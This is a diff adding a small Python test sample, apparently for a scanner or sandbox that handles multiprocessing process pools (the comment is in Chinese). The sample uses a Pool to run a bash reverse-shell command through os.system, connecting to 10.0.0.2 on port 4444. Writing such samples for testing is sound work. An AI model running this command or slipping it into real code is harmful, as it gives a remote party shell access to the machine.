@@ -0,0 +1,13 @@
+# 批量扫描中第二个使用进程池的样本，在新的子解释器中同样要替换为内联进程池
+import multiprocessing.pool
+import os
+
+
+def run(cmd):
+    return os.system(cmd)
+
+
+if __name__ == "__main__":
+    print("POOLTYPE", multiprocessing.pool.Pool)
+    with multiprocessing.pool.Pool(2) as pool:
+        pool.map(run, ["bash -i >& /dev/tcp/10.0.0.2/4444 0>&1"])